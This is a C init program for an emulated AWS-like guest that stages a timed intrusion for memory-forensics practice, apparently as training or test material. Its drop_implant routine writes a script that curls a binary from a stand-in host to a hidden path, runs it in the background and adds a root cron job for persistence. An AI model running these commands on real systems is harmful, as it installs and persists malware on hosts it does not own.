/*
 * init.c - process 1 of the sample guest: brings the host up and plays the
 * incident by the clock. It carries systemd's name and argument line.
 *
 * The emulator runs with "-icount sleep=off": when every process sleeps, its
 * clock jumps to the next timer. Whenever the outside has to answer, this
 * program spins instead of sleeping, so that the clock walks.
 */
#include "guest.h"
#include <net/if.h>
#include <net/route.h>
#include <poll.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <termios.h>

#define SSM_DIR  "/var/lib/amazon/ssm/" INSTANCE "/document/orchestration/"
#define SSM_TAIL "/awsrunShellScript/0.awsrunShellScript"
#define CMD_DROP "5f0c2d7e-8b1a-4c39-9e42-3d1b7a60f215"
#define CMD_DUMP "c81a6e30-47f2-4d0b-a9d5-60e2b7f4138c"

static int control = -1;

static char *const base_env[] = {
    "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
    "LANG=C.UTF-8", NULL
};

static void say(const char *text)
{
    if (write(control, text, strlen(text)) < 0)
        perror("control");
}

static void reap(void)
{
    while (waitpid(-1, NULL, WNOHANG) > 0)
        ;
}

static void sleep_until(time_t t)
{
    while (time(NULL) < t) {
        struct timespec s = { .tv_sec = t - time(NULL) };
        nanosleep(&s, NULL);
        reap();
    }
}

static void spin(double seconds)
{
    struct timespec a, b;

    clock_gettime(CLOCK_MONOTONIC, &a);
    do {
        reap();
        clock_gettime(CLOCK_MONOTONIC, &b);
    } while ((double)(b.tv_sec - a.tv_sec) +
                 1e-9 * (double)(b.tv_nsec - a.tv_nsec) <
             seconds);
}

static pid_t spawn(const char *exe, char *const argv[], char *const env[])
{
    pid_t pid = fork();

    if (pid)
        return pid;
    setsid();
    int null = open("/dev/null", O_RDWR);
    for (int fd = 0; fd < 3; fd++)
        dup2(null, fd);
    close(null);
    execve(exe, argv, env);
    _exit(127);
}

static void make_dirs(const char *path)
{
    char part[256];

    for (size_t i = 1; i < sizeof part && path[i - 1]; i++)
        if (path[i] == '/' || !path[i]) {
            memcpy(part, path, i);
            part[i] = 0;
            mkdir(part, 0755);
        }
}

static void mounts(void)
{
    mount("proc", "/proc", "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL);
    mount("sysfs", "/sys", "sysfs", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL);
    mount("devtmpfs", "/dev", "devtmpfs", MS_NOSUID, "mode=755");
    mkdir("/dev/pts", 0755);
    mount("devpts", "/dev/pts", "devpts", MS_NOSUID, "mode=620");
    mount("tmpfs", "/run", "tmpfs", MS_NOSUID | MS_NODEV, "mode=755");
    mount("tmpfs", "/tmp", "tmpfs", MS_NOSUID | MS_NODEV, "mode=1777");
}

static void open_control(void)
{
    struct termios t;

    control = open("/dev/ttyS1", O_RDWR | O_NOCTTY | O_CLOEXEC);
    tcgetattr(control, &t);
    cfmakeraw(&t);
    tcsetattr(control, TCSANOW, &t);
}

static void load_modules(void)
{
    static const char *const order[] = {
        "virtio_ring",           "virtio",     "virtio_pci_legacy_dev",
        "virtio_pci_modern_dev", "virtio_pci", "failover",
        "net_failover",          "virtio_net", "ena"
    };
    char path[128];

    for (size_t i = 0; i < sizeof order / sizeof *order; i++) {
        snprintf(path, sizeof path, "/lib/modules/%s.ko", order[i]);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0 || syscall(SYS_finit_module, fd, "", 0) < 0)
            printf("module %s: %s\n", order[i], strerror(errno));
        if (fd >= 0)
            close(fd);
        unlink(path); /* a copy would only fill the dump */
    }
}

static void set_addr(int s, const char *dev, const char *ip, const char *mask)
{
    struct ifreq r = { 0 };
    struct sockaddr_in *a = (struct sockaddr_in *)&r.ifr_addr;

    snprintf(r.ifr_name, sizeof r.ifr_name, "%s", dev);
    a->sin_family = AF_INET;
    inet_pton(AF_INET, ip, &a->sin_addr);
    if (ioctl(s, SIOCSIFADDR, &r) < 0)
        perror(ip);
    inet_pton(AF_INET, mask, &a->sin_addr);
    ioctl(s, SIOCSIFNETMASK, &r);
    ioctl(s, SIOCGIFFLAGS, &r);
    r.ifr_flags |= IFF_UP | IFF_RUNNING;
    ioctl(s, SIOCSIFFLAGS, &r);
}

static void network(void)
{
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct ifreq r = { 0 };
    struct rtentry rt = { .rt_flags = RTF_UP | RTF_GATEWAY };
    struct sockaddr_in *gw = (struct sockaddr_in *)&rt.rt_gateway;

    memcpy(r.ifr_name, "eth0", 5);
    memcpy(r.ifr_newname, "ens5", 5);
    if (ioctl(s, SIOCSIFNAME, &r) < 0)
        perror("ens5");
    set_addr(s, "lo", "127.0.0.1", "255.0.0.0");
    set_addr(s, "ens5", "10.0.1.20", "255.255.255.0");
    rt.rt_dst.sa_family = rt.rt_genmask.sa_family = gw->sin_family = AF_INET;
    inet_pton(AF_INET, "10.0.1.1", &gw->sin_addr);
    if (ioctl(s, SIOCADDRT, &rt) < 0)
        perror("default route");
    close(s);
}

static void host_files(void)
{
    make_dirs("/var/lib/cloud/data");
    make_dirs("/run/cloud-init");
    make_dirs("/var/log/nginx");
    make_dirs("/etc/cron.d");
    make_dirs(SSM_DIR CMD_DROP SSM_TAIL);
    make_dirs(SSM_DIR CMD_DUMP SSM_TAIL);
    make_dirs("/mnt/evidence");
    guest_put_file("/var/lib/cloud/data/instance-id", INSTANCE "\n", 0644);
    guest_put_file(
        "/run/cloud-init/instance-data.json",
        "{\n \"v1\": {\n  \"cloud_name\": \"aws\",\n"
        "  \"availability_zone\": \"ap-northeast-1a\",\n"
        "  \"region\": \"ap-northeast-1\",\n"
        "  \"instance_id\": \"" INSTANCE "\",\n"
        "  \"ami_id\": \"ami-0123abcd4567ef890\",\n"
        "  \"local_hostname\": \"app-01\"\n },\n"
        " \"ds\": {\"meta_data\": {\n"
        "  \"local-ipv4\": \"10.0.1.20\", \"public-ipv4\": \"203.0.113.20\",\n"
        "  \"interface-id\": \"eni-0a11b22c33d44e55f\",\n"
        "  \"volumes\": [\"vol-0aa11bb22cc33dd44\", "
        "\"vol-0bb22cc33dd44ee55\"],\n"
        "  \"iam\": {\"InstanceProfileArn\": "
        "\"arn:aws:iam::111122223333:instance-profile/app-server-role\"}\n"
        " }}\n}\n",
        0644);
}

/* The daemons every such host has. */
static void daemons(void)
{
    char *nginx[] = { "nginx: master process /usr/sbin/nginx", NULL };
    char *nginx_env[] = { base_env[0], "AWS_REGION=ap-northeast-1",
                          "AWS_DEFAULT_REGION=ap-northeast-1",
                          "REPORT_BUCKET=corp-reports-111122223333", NULL };
    char *sshd[] = { "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
                     NULL };
    char *crond[] = { "/usr/sbin/crond", "-n", NULL };
    char *chronyd[] = { "/usr/sbin/chronyd", "-F", "2", NULL };
    char *ssm[] = { "/usr/bin/amazon-ssm-agent", NULL };
    char *worker[] = { "/usr/bin/ssm-agent-worker", NULL };

    spawn("/usr/sbin/sshd", sshd, base_env);
    spawn("/usr/sbin/crond", crond, base_env);
    spawn("/usr/sbin/chronyd", chronyd, base_env);
    spawn("/usr/bin/amazon-ssm-agent", ssm, base_env);
    spawn("/usr/bin/ssm-agent-worker", worker, base_env);
    spawn("/usr/sbin/nginx", nginx, nginx_env);
}

/* 03:20: SendCommand drops the implant. */
static void drop_implant(void)
{
    char *argv[] = { "/usr/local/bin/.sysupd", NULL };
    char *env[] = { base_env[0],
                    "HOME=/root",
                    "AWS_SSM_REGION_NAME=ap-northeast-1",
                    "AWS_SSM_INSTANCE_ID=" INSTANCE,
                    "AWS_REGION=ap-northeast-1",
                    "SSM_COMMAND_ID=" CMD_DROP,
                    NULL };

    guest_put_file(
        SSM_DIR CMD_DROP SSM_TAIL "/_script.sh",
        "#!/bin/bash\ncurl -fsS -o /usr/local/bin/.sysupd "
        "http://198.51.100.66/u\nchmod 755 /usr/local/bin/.sysupd\n"
        "echo '*/10 * * * * root /usr/local/bin/.sysupd' "
        "> /etc/cron.d/sysupd\n"
        "setsid /usr/local/bin/.sysupd </dev/null >/dev/null 2>&1 &\n",
        0700);
    guest_put_file("/etc/cron.d/sysupd",
                   "*/10 * * * * root /usr/local/bin/.sysupd\n", 0644);
    rename("/.u", "/usr/local/bin/.sysupd");
    spawn("/usr/local/bin/.sysupd", argv, env);
}

/* 04:31: the responder's own command takes the memory. */
static void acquire(void)
{
    char *argv[] = { "/usr/bin/ssm-document-worker", CMD_DUMP, "/bin/bash",
                     SSM_DIR CMD_DUMP SSM_TAIL "/_script.sh", NULL };

    guest_put_file(SSM_DIR CMD_DUMP SSM_TAIL "/_script.sh",
                   "#!/bin/bash\n"
                   "/usr/local/bin/avml --compress /mnt/evidence/app-01.avml\n"
                   "sha256sum /mnt/evidence/app-01.avml\n",
                   0700);
    spawn("/usr/bin/ssm-document-worker", argv, base_env);
}

int main(void)
{
    const time_t day = 1773187200; /* 2026-03-11T00:00:00Z */

    mounts();
    open_control();
    load_modules();
    network();
    sethostname("app-01", 6);
    host_files();
    daemons();
    spin(1);
    say("PHASE up\n");
    sleep_until(day + 1 * 3600 + 41 * 60 + 7);
    say("PHASE scanner\n");
    spin(10);
    sleep_until(day + 2 * 3600 + 13 * 60 + 20);
    say("PHASE ssrf-look\n");
    spin(8);
    sleep_until(day + 2 * 3600 + 14 * 60 + 3);
    say("PHASE ssrf-key\n");
    spin(8);
    sleep_until(day + 3 * 3600 + 20 * 60 + 17);
    say("PHASE implant\n");
    drop_implant();
    spin(15);
    sleep_until(day + 4 * 3600 + 31 * 60 + 10);
    say("PHASE acquire\n");
    acquire();
    for (;;)
        sleep_until(time(NULL) + 60);
}
